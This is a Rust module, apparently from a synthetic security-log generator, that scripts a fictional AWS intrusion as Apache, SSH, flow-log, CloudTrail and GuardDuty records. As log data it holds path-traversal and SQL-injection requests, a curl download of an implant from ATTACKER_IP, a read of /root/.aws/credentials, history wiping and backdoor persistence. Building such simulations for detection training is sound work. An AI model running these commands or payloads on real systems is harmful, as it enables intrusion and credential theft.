//! The incident itself: a fixed script of raw events, timed relative to the run.
//!
//! Timeline (minutes after the incident's start, which is 41 hours before `--at`; it ends one hour
//! before `--at`):
//! - 0-25: web reconnaissance of the Apache server from the attacker (Nikto), which serves
//!   `/.env` holding deploy-bot's access key; then the CVE-2021-41773 path traversal/RCE; a few
//!   probes of the nginx API through the load balancer. Flow logs: the probes, some rejected.
//! - 120-136: SSH brute force from the attacker, then `Accepted password for deploy`.
//! - 138-152: the backdoor: `useradd backup-admin`, wheel group, a sudoers file, an
//!   authorized_keys entry, the implant downloaded from the attacker, a systemd unit and a cron
//!   file; the attacker's key login as backup-admin.
//! - 155 to the end: the implant's C&C connections to the attacker (443) and mining-pool traffic
//!   (3333) every 30 minutes in the flow logs.
//! - 1200-1210 (20 h later): deploy-bot's leaked key used from the attacker's IP: GetCallerIdentity,
//!   List/Describe discovery, CreateUser backup-admin, CreateAccessKey, AttachUserPolicy
//!   AdministratorAccess; then as backup-admin: StopLogging (denied by an SCP), RunInstances of
//!   a c5.4xlarge miner in us-west-2.
//! - 1320: the instance role's credentials, taken from the web server, used from the attacker's IP.
//! - GuardDuty findings for each stage, each imported into Security Hub a few minutes later.

use std::fmt::Write as _;

use super::clock;
use super::entities::*;
use super::ids;
use super::Stream;

const MIN: i64 = 60_000;
const SEC: i64 = 1000;

const NIKTO_UA: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)";
const CURL_UA: &str = "curl/8.5.0";
const CLI_UA: &str =
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22 prompt/off";

/// One scripted event.
pub(crate) struct Scripted {
    pub(crate) ms: i64,
    pub(crate) stream: Stream,
    pub(crate) raw: String,
}

struct Script {
    events: Vec<Scripted>,
    rng: fastrand::Rng,
    start: i64,
    end: i64,
    pid: u32,
}

/// The incident's events, sorted by time (stable: same-time events keep their script order).
pub(crate) fn script(seed: u64, start: i64, end: i64) -> Vec<Scripted> {
    let mut s = Script {
        events: Vec::new(),
        rng: fastrand::Rng::with_seed(seed ^ 0x1c1d_e000_5eed),
        start,
        end,
        pid: 4100,
    };
    s.web_recon();
    s.ssh_brute_force();
    s.backdoor();
    s.beacons();
    s.leaked_key();
    s.role_credentials();
    s.findings();
    s.events.sort_by_key(|e| e.ms);
    s.events
}

/// The identity element of a CloudTrail record.
enum Who {
    Leaked,
    Backdoor,
    Role,
}

impl Who {
    fn json(&self) -> String {
        match self {
            Who::Leaked => format!(
                r#"{{"type":"IAMUser","principalId":"{LEAKED_PRINCIPAL}","arn":"arn:aws:iam::{ACCOUNT}:user/{LEAKED_USER}","accountId":"{ACCOUNT}","accessKeyId":"{LEAKED_KEY}","userName":"{LEAKED_USER}"}}"#
            ),
            Who::Backdoor => format!(
                r#"{{"type":"IAMUser","principalId":"{BACKDOOR_PRINCIPAL}","arn":"arn:aws:iam::{ACCOUNT}:user/{BACKDOOR_IAM_USER}","accountId":"{ACCOUNT}","accessKeyId":"{BACKDOOR_KEY}","userName":"{BACKDOOR_IAM_USER}"}}"#
            ),
            Who::Role => format!(
                r#"{{"type":"AssumedRole","principalId":"{ROLE_PRINCIPAL}:{INSTANCE_ID}","arn":"arn:aws:sts::{ACCOUNT}:assumed-role/{ROLE}/{INSTANCE_ID}","accountId":"{ACCOUNT}","accessKeyId":"{ROLE_KEY}","sessionContext":{{"sessionIssuer":{{"type":"Role","principalId":"{ROLE_PRINCIPAL}","arn":"arn:aws:iam::{ACCOUNT}:role/{ROLE}","accountId":"{ACCOUNT}","userName":"{ROLE}"}},"webIdFederationData":{{}},"attributes":{{"creationDate":"CREATED","mfaAuthenticated":"false"}},"ec2RoleDelivery":"2.0"}}}}"#
            ),
        }
    }
}

/// A CloudTrail call.
struct Call<'a> {
    who: Who,
    source: &'a str,
    name: &'a str,
    region: &'a str,
    command: &'a str,
    request: String,
    response: String,
    read_only: bool,
    error: Option<(&'a str, &'a str)>,
}

/// A GuardDuty finding and its Security Hub copy.
struct Finding<'a> {
    ty: &'a str,
    asff_type: &'a str,
    severity: u32,
    title: String,
    description: String,
    /// `resource` of the GuardDuty finding (JSON object text).
    resource: String,
    /// `Resources` of the ASFF finding (JSON array text).
    asff_resources: String,
    /// `service.action` (JSON object text).
    action: String,
    /// ProductFields entries for the action, without braces.
    product_fields: String,
    first_seen: i64,
    last_seen: i64,
    created: i64,
    count: u32,
    feature: &'a str,
    evidence: &'a str,
}

fn instance_resource() -> String {
    format!(
        r#"{{"resourceType":"Instance","instanceDetails":{{"instanceId":"{INSTANCE_ID}","instanceType":"t3.medium","launchTime":"2026-11-02T01:14:33.000Z","platform":null,"productCodes":[],"iamInstanceProfile":{{"arn":"arn:aws:iam::{ACCOUNT}:instance-profile/WebServerInstanceProfile","id":"AIPAQPGBJG4K4KU74WID2"}},"networkInterfaces":[{{"ipv6Addresses":[],"networkInterfaceId":"{ENI}","privateDnsName":"{HOST}.ec2.internal","privateIpAddress":"{PRIVATE_IP}","privateIpAddresses":[{{"privateDnsName":"{HOST}.ec2.internal","privateIpAddress":"{PRIVATE_IP}"}}],"subnetId":"{SUBNET}","vpcId":"{VPC}","securityGroups":[{{"groupName":"web-sg","groupId":"sg-0123456789abcdef0"}}],"publicDnsName":"ec2-198-51-100-23.compute-1.amazonaws.com","publicIp":"{PUBLIC_IP}"}}],"outpostArn":null,"tags":[{{"key":"Name","value":"web-01"}},{{"key":"env","value":"prod"}}],"instanceState":"running","availabilityZone":"us-east-1a","imageId":"ami-0abcdef1234567890","imageDescription":"Amazon Linux 2023 AMI 2023.6.20241111.0 x86_64 HVM kernel-6.1"}}}}"#
    )
}

fn instance_asff() -> String {
    format!(
        r#"[{{"Type":"AwsEc2Instance","Id":"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/{INSTANCE_ID}","Partition":"aws","Region":"{REGION}","Tags":{{"Name":"web-01","env":"prod"}},"Details":{{"AwsEc2Instance":{{"Type":"t3.medium","ImageId":"ami-0abcdef1234567890","IpV4Addresses":["{PUBLIC_IP}","{PRIVATE_IP}"],"VpcId":"{VPC}","SubnetId":"{SUBNET}","LaunchedAt":"2026-11-02T01:14:33Z"}}}}}}]"#
    )
}

fn key_resource(key: &str, principal: &str, user: &str, user_type: &str) -> String {
    format!(
        r#"{{"resourceType":"AccessKey","accessKeyDetails":{{"accessKeyId":"{key}","principalId":"{principal}","userName":"{user}","userType":"{user_type}"}}}}"#
    )
}

fn key_asff(key: &str, principal: &str, user: &str, user_type: &str) -> String {
    format!(
        r#"[{{"Type":"AwsIamAccessKey","Id":"AWS::IAM::AccessKey:{key}","Partition":"aws","Region":"{REGION}","Details":{{"AwsIamAccessKey":{{"PrincipalId":"{principal}","PrincipalName":"{user}","PrincipalType":"{user_type}","Status":"Active"}}}}}}]"#
    )
}

fn remote(ip: &str) -> String {
    let (asn, org, country, code, city, lat, lon) = if ip == POOL_IP {
        (
            "64502",
            "EXAMPLE-POOL-NET",
            "Germany",
            "DE",
            "Frankfurt am Main",
            50.1109,
            8.6821,
        )
    } else {
        (
            "64500",
            "EXAMPLE-HOSTING-AS",
            "Netherlands",
            "NL",
            "Amsterdam",
            52.3759,
            4.8975,
        )
    };
    format!(
        r#"{{"ipAddressV4":"{ip}","organization":{{"asn":"{asn}","asnOrg":"{org}","isp":"{org}","org":"{org}"}},"country":{{"countryCode":"{code}","countryName":"{country}"}},"city":{{"cityName":"{city}"}},"geoLocation":{{"lat":{lat},"lon":{lon}}}}}"#
    )
}

fn remote_fields(prefix: &str, ip: &str) -> String {
    let g = "aws/guardduty/service/action/";
    let (asn, org, country) = if ip == POOL_IP {
        ("64502", "EXAMPLE-POOL-NET", "Germany")
    } else {
        ("64500", "EXAMPLE-HOSTING-AS", "Netherlands")
    };
    format!(
        r#""{g}{prefix}/remoteIpDetails/ipAddressV4":"{ip}","{g}{prefix}/remoteIpDetails/organization/asn":"{asn}","{g}{prefix}/remoteIpDetails/organization/asnOrg":"{org}","{g}{prefix}/remoteIpDetails/country/countryName":"{country}""#
    )
}

fn connection(
    direction: &str,
    remote_ip: &str,
    remote_port: u16,
    local_port: u16,
) -> (String, String) {
    let port_name = |p: u16| match p {
        22 => "SSH",
        80 => "HTTP",
        443 => "HTTPS",
        _ => "Unknown",
    };
    let action = format!(
        r#"{{"actionType":"NETWORK_CONNECTION","networkConnectionAction":{{"connectionDirection":"{direction}","remoteIpDetails":{},"remotePortDetails":{{"port":{remote_port},"portName":"{}"}},"localPortDetails":{{"port":{local_port},"portName":"{}"}},"protocol":"TCP","blocked":false,"localIpDetails":{{"ipAddressV4":"{PRIVATE_IP}"}},"localNetworkInterface":"{ENI}"}}}}"#,
        remote(remote_ip),
        port_name(remote_port),
        port_name(local_port)
    );
    let g = "aws/guardduty/service/action/";
    let fields = format!(
        r#""{g}actionType":"NETWORK_CONNECTION","{g}networkConnectionAction/connectionDirection":"{direction}",{},"{g}networkConnectionAction/remotePortDetails/port":"{remote_port}","{g}networkConnectionAction/localPortDetails/port":"{local_port}","{g}networkConnectionAction/localIpDetails/ipAddressV4":"{PRIVATE_IP}","{g}networkConnectionAction/protocol":"TCP","{g}networkConnectionAction/blocked":"false""#,
        remote_fields("networkConnectionAction", remote_ip)
    );
    (action, fields)
}

fn api_call(api: &str, service: &str, affected: Option<&str>) -> (String, String) {
    let affected_json = affected
        .map(|u| format!(r#","affectedResources":{{"AWS::IAM::User":"{u}"}}"#))
        .unwrap_or_else(|| r#","affectedResources":{}"#.to_string());
    let action = format!(
        r#"{{"actionType":"AWS_API_CALL","awsApiCallAction":{{"api":"{api}","serviceName":"{service}","callerType":"Remote IP","remoteIpDetails":{}{affected_json},"userAgent":"{CLI_UA}"}}}}"#,
        remote(ATTACKER_IP)
    );
    let g = "aws/guardduty/service/action/";
    let mut fields = format!(
        r#""{g}actionType":"AWS_API_CALL","{g}awsApiCallAction/api":"{api}","{g}awsApiCallAction/serviceName":"{service}","{g}awsApiCallAction/callerType":"Remote IP",{}"#,
        remote_fields("awsApiCallAction", ATTACKER_IP)
    );
    if let Some(u) = affected {
        let _ = write!(
            fields,
            r#","{g}awsApiCallAction/affectedResources/AWS::IAM::User":"{u}""#
        );
    }
    (action, fields)
}

impl Script {
    fn at(&self, minutes: f64) -> i64 {
        (self.start + (minutes * MIN as f64) as i64).min(self.end)
    }

    fn push(&mut self, ms: i64, stream: Stream, raw: String) {
        self.events.push(Scripted { ms, stream, raw });
    }

    fn next_pid(&mut self) -> u32 {
        self.pid += 1 + self.rng.u32(0..40);
        self.pid
    }

    fn apache(&mut self, ms: i64, request: &str, status: u16, bytes: u32, ua: &str) {
        let mut raw = format!("{ATTACKER_IP} - - [");
        clock::clf(&mut raw, ms);
        let _ = write!(raw, "] \"{request}\" {status} {bytes} \"-\" \"{ua}\"");
        self.push(ms, Stream::Apache, raw);
    }

    fn flow(
        &mut self,
        ms: i64,
        src: &str,
        dst: &str,
        sport: u16,
        dport: u16,
        packets: u32,
        bytes: u64,
        action: &str,
    ) {
        let start = ms / SEC;
        let raw = format!(
            "2 {ACCOUNT} {ENI} {src} {dst} {sport} {dport} 6 {packets} {bytes} {start} {} {action} OK",
            start + 59
        );
        // flow logs are delivered when the capture window closes
        self.push(ms + 59 * SEC, Stream::Vpc, raw);
    }

    fn secure(&mut self, ms: i64, prog: &str, pid: u32, message: &str) {
        let mut raw = String::new();
        clock::syslog(&mut raw, ms);
        let _ = write!(raw, " {HOST} {prog}[{pid}]: {message}");
        self.push(ms, Stream::Secure, raw);
    }

    fn web_recon(&mut self) {
        let probes: [(&str, u16, u32); 14] = [
            ("GET / HTTP/1.1", 200, 11321),
            ("GET /robots.txt HTTP/1.1", 200, 68),
            ("GET /admin/ HTTP/1.1", 404, 196),
            ("GET /phpmyadmin/ HTTP/1.1", 404, 196),
            ("GET /wp-login.php HTTP/1.1", 404, 196),
            ("GET /.git/config HTTP/1.1", 404, 196),
            ("GET /server-status HTTP/1.1", 403, 199),
            ("GET /backup.zip HTTP/1.1", 404, 196),
            ("GET /config.php.bak HTTP/1.1", 404, 196),
            ("GET /.env HTTP/1.1", 200, 1184),
            ("GET /.aws/credentials HTTP/1.1", 404, 196),
            ("GET /cgi-bin/test-cgi HTTP/1.1", 404, 196),
            ("GET /cgi-bin/printenv HTTP/1.1", 404, 196),
            ("OPTIONS / HTTP/1.1", 200, 0),
        ];
        for (i, (request, status, bytes)) in probes.iter().enumerate() {
            let ms = self.at(i as f64 * 0.7);
            self.apache(ms, request, *status, *bytes, NIKTO_UA);
        }
        let exploit = [
            (
                "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1".to_string(),
                200,
                1843,
            ),
            (format!("POST {EXPLOIT_PATH} HTTP/1.1"), 200, 37),
            (format!("POST {EXPLOIT_PATH} HTTP/1.1"), 200, 412),
            (format!("POST {EXPLOIT_PATH} HTTP/1.1"), 200, 2210),
        ];
        for (i, (request, status, bytes)) in exploit.iter().enumerate() {
            let ms = self.at(18.0 + i as f64 * 1.5);
            self.apache(ms, request, *status, *bytes, CURL_UA);
        }
        // the nginx API behind the load balancer: the client is in X-Forwarded-For
        let api = [
            (
                "GET /api/v1/users?id=1%27%20OR%20%271%27=%271 HTTP/1.1",
                500,
                612,
            ),
            (
                "GET /api/v1/users?id=1%20UNION%20SELECT%20null,version()-- HTTP/1.1",
                500,
                612,
            ),
            ("GET /api/v1/../../../../etc/passwd HTTP/1.1", 400, 157),
            ("GET /api/v1/health HTTP/1.1", 200, 17),
        ];
        for (i, (request, status, bytes)) in api.iter().enumerate() {
            let ms = self.at(10.0 + i as f64 * 0.9);
            let mut raw = format!("{} - - [", ALB_IPS[i % 2]);
            clock::clf(&mut raw, ms);
            let _ = write!(
                raw,
                "] \"{request}\" {status} {bytes} \"-\" \"sqlmap/1.8.2#stable (https://sqlmap.org)\" \"{ATTACKER_IP}\""
            );
            self.push(ms, Stream::Nginx, raw);
        }
        // the same minutes in the flow log: HTTP accepted, the probes of closed ports rejected
        for (i, port) in [80u16, 443, 22, 3389, 8080, 23].iter().enumerate() {
            let ms = self.at(i as f64 * 4.0);
            let action = if matches!(port, 80 | 443 | 22) {
                "ACCEPT"
            } else {
                "REJECT"
            };
            let (packets, bytes) = if action == "ACCEPT" {
                (42, 9_870)
            } else {
                (1, 44)
            };
            self.flow(
                ms,
                ATTACKER_IP,
                PRIVATE_IP,
                51_000 + i as u16,
                *port,
                packets,
                bytes,
                action,
            );
        }
    }

    fn ssh_brute_force(&mut self) {
        let users = [
            "root", "admin", "ec2-user", "oracle", "deploy", "ubuntu", "test", "deploy",
        ];
        let invalid = ["admin", "oracle", "ubuntu", "test"];
        let mut port = 52_100u16;
        for i in 0..32 {
            let ms = self.at(120.0 + i as f64 * 0.5);
            let user = users[i % users.len()];
            let pid = self.next_pid();
            port += 1 + self.rng.u16(0..9);
            if invalid.contains(&user) {
                self.secure(
                    ms,
                    "sshd",
                    pid,
                    &format!("Invalid user {user} from {ATTACKER_IP} port {port}"),
                );
                self.secure(ms + 2 * SEC, "sshd", pid, &format!("Failed password for invalid user {user} from {ATTACKER_IP} port {port} ssh2"));
                self.secure(
                    ms + 3 * SEC,
                    "sshd",
                    pid,
                    &format!(
                        "Received disconnect from {ATTACKER_IP} port {port}:11: Bye Bye [preauth]"
                    ),
                );
            } else {
                self.secure(
                    ms,
                    "sshd",
                    pid,
                    &format!("Failed password for {user} from {ATTACKER_IP} port {port} ssh2"),
                );
                self.secure(
                    ms + 3 * SEC,
                    "sshd",
                    pid,
                    &format!("Failed password for {user} from {ATTACKER_IP} port {port} ssh2"),
                );
                self.secure(ms + 4 * SEC, "sshd", pid, &format!("Connection closed by authenticating user {user} {ATTACKER_IP} port {port} [preauth]"));
            }
        }
        for i in 0..8 {
            let ms = self.at(120.0 + i as f64 * 2.0);
            self.flow(
                ms,
                ATTACKER_IP,
                PRIVATE_IP,
                52_100 + i * 7,
                22,
                96,
                14_880,
                "ACCEPT",
            );
            self.flow(
                ms,
                PRIVATE_IP,
                ATTACKER_IP,
                22,
                52_100 + i * 7,
                88,
                17_412,
                "ACCEPT",
            );
        }
        let ms = self.at(136.0);
        let pid = self.next_pid();
        self.secure(
            ms,
            "sshd",
            pid,
            &format!("Accepted password for {SSH_USER} from {ATTACKER_IP} port 53022 ssh2"),
        );
        self.secure(
            ms,
            "sshd",
            pid,
            &format!(
                "pam_unix(sshd:session): session opened for user {SSH_USER}(uid=1001) by (uid=0)"
            ),
        );
        self.secure(
            ms,
            "systemd-logind",
            512,
            &format!("New session 41 of user {SSH_USER}."),
        );
        self.flow(
            ms,
            ATTACKER_IP,
            PRIVATE_IP,
            53_022,
            22,
            310,
            48_221,
            "ACCEPT",
        );
        self.flow(
            ms,
            PRIVATE_IP,
            ATTACKER_IP,
            22,
            53_022,
            288,
            61_090,
            "ACCEPT",
        );
    }

    fn sudo(&mut self, minutes: f64, user: &str, uid: u32, command: &str) {
        let ms = self.at(minutes);
        let pid = self.next_pid();
        self.secure(
            ms,
            "sudo",
            pid,
            &format!("{user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"),
        );
        self.secure(
            ms,
            "sudo",
            pid,
            &format!(
                "pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})"
            ),
        );
        self.secure(
            ms + SEC,
            "sudo",
            pid,
            "pam_unix(sudo:session): session closed for user root",
        );
    }

    fn backdoor(&mut self) {
        let u = LINUX_BACKDOOR_USER;
        self.sudo(
            138.0,
            SSH_USER,
            1001,
            &format!("/usr/sbin/useradd -m -s /bin/bash {u}"),
        );
        let ms = self.at(138.0);
        let pid = self.next_pid();
        self.secure(
            ms,
            "useradd",
            pid,
            &format!("new group: name={u}, GID=1002"),
        );
        self.secure(ms, "useradd", pid, &format!("new user: name={u}, UID=1002, GID=1002, home=/home/{u}, shell=/bin/bash, from=/dev/pts/1"));
        self.sudo(
            139.0,
            SSH_USER,
            1001,
            &format!("/usr/sbin/usermod -aG wheel {u}"),
        );
        let ms = self.at(139.0);
        let pid = self.next_pid();
        self.secure(ms, "usermod", pid, &format!("add '{u}' to group 'wheel'"));
        self.secure(
            ms,
            "usermod",
            pid,
            &format!("add '{u}' to shadow group 'wheel'"),
        );
        self.sudo(
            140.0,
            SSH_USER,
            1001,
            &format!("/usr/bin/tee {SUDOERS_FILE}"),
        );
        self.sudo(
            141.0,
            SSH_USER,
            1001,
            &format!("/usr/bin/mkdir -p /home/{u}/.ssh"),
        );
        self.sudo(
            141.5,
            SSH_USER,
            1001,
            &format!("/usr/bin/tee -a /home/{u}/.ssh/authorized_keys"),
        );
        self.sudo(
            143.0,
            SSH_USER,
            1001,
            &format!("/usr/bin/curl -fsSL -o {IMPLANT} http://{ATTACKER_IP}/x86_64"),
        );
        let ms = self.at(143.0);
        self.flow(
            ms,
            PRIVATE_IP,
            ATTACKER_IP,
            41_870,
            80,
            1_720,
            2_415_880,
            "ACCEPT",
        );
        self.sudo(
            143.5,
            SSH_USER,
            1001,
            &format!("/usr/bin/chmod 755 {IMPLANT}"),
        );
        self.sudo(
            145.0,
            SSH_USER,
            1001,
            &format!("/usr/bin/tee /etc/systemd/system/{IMPLANT_SERVICE}"),
        );
        self.sudo(
            145.5,
            SSH_USER,
            1001,
            &format!("/usr/bin/systemctl enable --now {IMPLANT_SERVICE}"),
        );
        self.sudo(146.0, SSH_USER, 1001, &format!("/usr/bin/tee {CRON_FILE}"));
        self.sudo(
            147.0,
            SSH_USER,
            1001,
            "/usr/bin/truncate -s 0 /root/.bash_history",
        );
        let ms = self.at(149.0);
        let pid = self.next_pid();
        self.secure(
            ms,
            "sshd",
            pid,
            &format!("Received disconnect from {ATTACKER_IP} port 53022:11: disconnected by user"),
        );
        self.secure(
            ms,
            "sshd",
            pid,
            &format!("Disconnected from user {SSH_USER} {ATTACKER_IP} port 53022"),
        );
        self.secure(
            ms,
            "sshd",
            pid,
            &format!("pam_unix(sshd:session): session closed for user {SSH_USER}"),
        );
        self.secure(ms, "systemd-logind", 512, "Removed session 41.");
        // back with the planted key, as the new user
        let ms = self.at(152.0);
        let pid = self.next_pid();
        self.secure(ms, "sshd", pid, &format!("Accepted publickey for {u} from {ATTACKER_IP} port 53190 ssh2: ED25519 SHA256:Qm9vdGtpdEJhY2tkb29yS2V5RXhhbXBsZTIwMjY1MDA"));
        self.secure(
            ms,
            "sshd",
            pid,
            &format!("pam_unix(sshd:session): session opened for user {u}(uid=1002) by (uid=0)"),
        );
        self.secure(
            ms,
            "systemd-logind",
            512,
            &format!("New session 42 of user {u}."),
        );
        self.flow(
            ms,
            ATTACKER_IP,
            PRIVATE_IP,
            53_190,
            22,
            120,
            19_200,
            "ACCEPT",
        );
        self.sudo(153.0, u, 1002, "/usr/bin/cat /root/.aws/credentials");
        let ms = self.at(156.0);
        self.secure(
            ms,
            "sshd",
            pid,
            &format!("Disconnected from user {u} {ATTACKER_IP} port 53190"),
        );
        self.secure(
            ms,
            "sshd",
            pid,
            &format!("pam_unix(sshd:session): session closed for user {u}"),
        );
    }

    /// The implant's traffic: C&C and mining, every hour until the end.
    fn beacons(&mut self) {
        let mut minutes = 155.0;
        let mut port = 40_000u16;
        while self.at(minutes) < self.end {
            let ms = self.at(minutes);
            port = 40_000 + (port - 40_000 + 37) % 20_000;
            let jitter = self.rng.u64(0..2_000);
            self.flow(
                ms,
                PRIVATE_IP,
                C2_IP,
                port,
                C2_PORT,
                14,
                2_310 + jitter,
                "ACCEPT",
            );
            self.flow(
                ms,
                C2_IP,
                PRIVATE_IP,
                C2_PORT,
                port,
                12,
                4_112 + jitter,
                "ACCEPT",
            );
            let ms = self.at(minutes + 30.0);
            self.flow(
                ms,
                PRIVATE_IP,
                POOL_IP,
                port + 1,
                POOL_PORT,
                1_930,
                221_400 + jitter * 10,
                "ACCEPT",
            );
            self.flow(
                ms,
                POOL_IP,
                PRIVATE_IP,
                POOL_PORT,
                port + 1,
                1_870,
                389_020 + jitter * 10,
                "ACCEPT",
            );
            minutes += 60.0;
        }
    }

    fn call(&mut self, ms: i64, c: Call<'_>) {
        let request_id = ids::uuid_string(&mut self.rng);
        let event_id = ids::uuid_string(&mut self.rng);
        let mut time = String::new();
        clock::iso(&mut time, ms);
        let mut identity = c.who.json();
        if matches!(c.who, Who::Role) {
            let mut created = String::new();
            clock::iso(&mut created, ms - 47 * MIN);
            identity = identity.replace("CREATED", &created);
        }
        let host = if c.source == "iam.amazonaws.com" || c.source == "sts.amazonaws.com" {
            c.source.to_string()
        } else {
            format!(
                "{}.{}.amazonaws.com",
                c.source.trim_end_matches(".amazonaws.com"),
                c.region
            )
        };
        let error = c
            .error
            .map(|(code, message)| format!(r#""errorCode":"{code}","errorMessage":"{message}","#))
            .unwrap_or_default();
        let raw = format!(
            r#"{{"eventVersion":"1.09","userIdentity":{identity},"eventTime":"{time}","eventSource":"{source}","eventName":"{name}","awsRegion":"{region}","sourceIPAddress":"{ATTACKER_IP}","userAgent":"{CLI_UA} command/{command}",{error}"requestParameters":{request},"responseElements":{response},"requestID":"{request_id}","eventID":"{event_id}","readOnly":{read_only},"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"{ACCOUNT}","eventCategory":"Management","tlsDetails":{{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"{host}"}}}}"#,
            source = c.source,
            name = c.name,
            region = c.region,
            command = c.command,
            request = c.request,
            response = c.response,
            read_only = c.read_only,
        );
        self.push(ms, Stream::CloudTrail, raw);
    }

    fn leaked_key(&mut self) {
        let null = || "null".to_string();
        let reads: [(&str, &str, &str, &str, String); 8] = [
            (
                "sts.amazonaws.com",
                "GetCallerIdentity",
                REGION,
                "sts.get-caller-identity",
                null(),
            ),
            (
                "iam.amazonaws.com",
                "ListUsers",
                REGION,
                "iam.list-users",
                null(),
            ),
            (
                "iam.amazonaws.com",
                "ListAttachedUserPolicies",
                REGION,
                "iam.list-attached-user-policies",
                format!(r#"{{"userName":"{LEAKED_USER}"}}"#),
            ),
            (
                "iam.amazonaws.com",
                "GetAccountAuthorizationDetails",
                REGION,
                "iam.get-account-authorization-details",
                null(),
            ),
            (
                "ec2.amazonaws.com",
                "DescribeInstances",
                REGION,
                "ec2.describe-instances",
                r#"{"instancesSet":{},"filterSet":{}}"#.to_string(),
            ),
            (
                "s3.amazonaws.com",
                "ListBuckets",
                REGION,
                "s3api.list-buckets",
                format!(r#"{{"Host":"s3.{REGION}.amazonaws.com"}}"#),
            ),
            (
                "ec2.amazonaws.com",
                "DescribeRegions",
                REGION,
                "ec2.describe-regions",
                r#"{"regionSet":{}}"#.to_string(),
            ),
            (
                "ec2.amazonaws.com",
                "DescribeSecurityGroups",
                REGION,
                "ec2.describe-security-groups",
                r#"{"securityGroupSet":{},"securityGroupIdSet":{},"filterSet":{}}"#.to_string(),
            ),
        ];
        for (i, (source, name, region, command, request)) in reads.into_iter().enumerate() {
            let ms = self.at(1200.0) + i as i64 * 17 * SEC;
            self.call(
                ms,
                Call {
                    who: Who::Leaked,
                    source,
                    name,
                    region,
                    command,
                    request,
                    response: null(),
                    read_only: true,
                    error: None,
                },
            );
        }
        let ms = self.at(1203.0);
        let mut created = String::new();
        clock::iso(&mut created, ms);
        self.call(ms, Call {
            who: Who::Leaked,
            source: "iam.amazonaws.com",
            name: "CreateUser",
            region: REGION,
            command: "iam.create-user",
            request: format!(r#"{{"userName":"{BACKDOOR_IAM_USER}"}}"#),
            response: format!(r#"{{"user":{{"path":"/","userName":"{BACKDOOR_IAM_USER}","userId":"{BACKDOOR_PRINCIPAL}","arn":"arn:aws:iam::{ACCOUNT}:user/{BACKDOOR_IAM_USER}","createDate":"{created}"}}}}"#),
            read_only: false,
            error: None,
        });
        let ms = self.at(1203.5);
        let mut date = String::new();
        clock::cloudtrail_create_date(&mut date, ms);
        self.call(ms, Call {
            who: Who::Leaked,
            source: "iam.amazonaws.com",
            name: "CreateAccessKey",
            region: REGION,
            command: "iam.create-access-key",
            request: format!(r#"{{"userName":"{BACKDOOR_IAM_USER}"}}"#),
            response: format!(r#"{{"accessKey":{{"userName":"{BACKDOOR_IAM_USER}","accessKeyId":"{BACKDOOR_KEY}","status":"Active","createDate":"{date}"}}}}"#),
            read_only: false,
            error: None,
        });
        let ms = self.at(1204.0);
        self.call(
            ms,
            Call {
                who: Who::Leaked,
                source: "iam.amazonaws.com",
                name: "AttachUserPolicy",
                region: REGION,
                command: "iam.attach-user-policy",
                request: format!(
                    r#"{{"userName":"{BACKDOOR_IAM_USER}","policyArn":"{ATTACHED_POLICY}"}}"#
                ),
                response: "null".into(),
                read_only: false,
                error: None,
            },
        );
        let ms = self.at(1206.0);
        self.call(
            ms,
            Call {
                who: Who::Backdoor,
                source: "sts.amazonaws.com",
                name: "GetCallerIdentity",
                region: REGION,
                command: "sts.get-caller-identity",
                request: null(),
                response: null(),
                read_only: true,
                error: None,
            },
        );
        let ms = self.at(1206.5);
        self.call(ms, Call {
            who: Who::Backdoor,
            source: "cloudtrail.amazonaws.com",
            name: "StopLogging",
            region: REGION,
            command: "cloudtrail.stop-logging",
            request: format!(r#"{{"name":"{TRAIL}"}}"#),
            response: null(),
            read_only: false,
            error: Some(("AccessDenied", "User: arn:aws:iam::111122223333:user/backup-admin is not authorized to perform: cloudtrail:StopLogging on resource: arn:aws:cloudtrail:us-east-1:111122223333:trail/management-events with an explicit deny in a service control policy")),
        });
        let ms = self.at(1208.0);
        self.call(ms, Call {
            who: Who::Backdoor,
            source: "ec2.amazonaws.com",
            name: "DescribeImages",
            region: MINER_REGION,
            command: "ec2.describe-images",
            request: r#"{"executableBySet":{},"imagesSet":{},"ownersSet":{"items":[{"owner":"amazon"}]},"filterSet":{}}"#.into(),
            response: null(),
            read_only: true,
            error: None,
        });
        let ms = self.at(1209.0);
        let reservation = ids::hex_string(&mut self.rng, 17);
        let client_token = ids::uuid_string(&mut self.rng);
        let launch = ms;
        self.call(ms, Call {
            who: Who::Backdoor,
            source: "ec2.amazonaws.com",
            name: "RunInstances",
            region: MINER_REGION,
            command: "ec2.run-instances",
            request: format!(r#"{{"instancesSet":{{"items":[{{"imageId":"ami-0fedcba9876543210","minCount":1,"maxCount":1,"keyName":"ops-2026"}}]}},"userData":"<sensitiveDataRemoved>","instanceType":"{MINER_TYPE}","blockDeviceMapping":{{}},"monitoring":{{"enabled":false}},"disableApiTermination":false,"disableApiStop":false,"clientToken":"{client_token}","tagSpecificationSet":{{"items":[{{"resourceType":"instance","tags":[{{"key":"Name","value":"build-cache"}}]}}]}}}}"#),
            response: format!(r#"{{"reservationId":"r-0{reservation}","ownerId":"{ACCOUNT}","groupSet":{{}},"instancesSet":{{"items":[{{"instanceId":"{MINER_INSTANCE}","imageId":"ami-0fedcba9876543210","instanceState":{{"code":0,"name":"pending"}},"privateDnsName":"ip-172-31-20-87.us-west-2.compute.internal","keyName":"ops-2026","amiLaunchIndex":0,"instanceType":"{MINER_TYPE}","launchTime":{launch},"placement":{{"availabilityZone":"us-west-2a","tenancy":"default"}},"privateIpAddress":"{MINER_IP}","architecture":"x86_64","rootDeviceType":"ebs","tagSet":{{"items":[{{"key":"Name","value":"build-cache"}}]}}}}]}}}}"#),
            read_only: false,
            error: None,
        });
        let ms = self.at(1210.0);
        self.call(ms, Call {
            who: Who::Backdoor,
            source: "ec2.amazonaws.com",
            name: "DescribeInstances",
            region: MINER_REGION,
            command: "ec2.describe-instances",
            request: format!(r#"{{"instancesSet":{{"items":[{{"instanceId":"{MINER_INSTANCE}"}}]}},"filterSet":{{}}}}"#),
            response: null(),
            read_only: true,
            error: None,
        });
    }

    fn role_credentials(&mut self) {
        let null = || "null".to_string();
